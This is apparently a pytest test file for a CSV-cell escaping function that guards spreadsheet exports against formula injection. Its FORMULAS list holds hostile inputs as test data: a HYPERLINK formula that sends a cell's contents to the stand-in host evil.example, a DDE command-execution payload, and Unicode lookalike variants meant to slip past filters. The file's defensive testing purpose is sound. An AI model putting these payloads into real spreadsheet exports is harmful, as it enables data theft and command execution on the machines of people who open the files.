"""Text in a table that a spreadsheet opens is text."""

import csv
import io
from collections.abc import Callable

import pytest

from buckler.input import csv_cell
from tests.input.harmless import HARMLESS
from tests.proof import two_sided

FORMULAS = (
    "=1+1", '=HYPERLINK("https://evil.example?"&A1)', "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", "\t=1",
    "\r=1", "\n=1",
    " =1+1", "\u00a0=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "\ufeff=1",
)  # fmt: skip


def cell(written: str) -> str:
    """What a spreadsheet reads back."""
    table = io.StringIO()
    csv.writer(table).writerow([written, "next"])
    return next(csv.reader(io.StringIO(table.getvalue(), newline="")))[0]


@pytest.mark.asvs("1.2.10")
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_text_is_a_formula(text: str) -> None:
    """Written as it is, each of them would be one in some program."""

    def attack(write: Callable[[str], str]) -> bool:
        return not cell(write(text)).startswith("'")

    two_sided(attack, whole=csv_cell, twin=str)
    assert csv_cell(text)[1:] == text
    assert csv_cell(csv_cell(text)) == csv_cell(text)


def test_every_other_text_stays_as_it_is() -> None:
    """In whatever script."""
    for text in HARMLESS:
        assert csv_cell(text) in (text, f"'{text}")
        assert csv_cell(text) == text or text[0] in "=+-@"
    assert csv_cell("") == ""
    assert csv_cell(" ") == " "


def test_in_quotes_no_separator_begins_another_cell() -> None:
    """A program that is set to `;` sees a formula where the cell stands bare."""
    bare, quoted = io.StringIO(), io.StringIO()
    csv.writer(bare).writerow([csv_cell("x;=1+1")])
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerow([csv_cell("x;=1+1")])
    assert next(csv.reader(io.StringIO(bare.getvalue()), delimiter=";"))[1] == "=1+1"
    assert next(csv.reader(io.StringIO(quoted.getvalue()), delimiter=";")) == ["x;=1+1"]
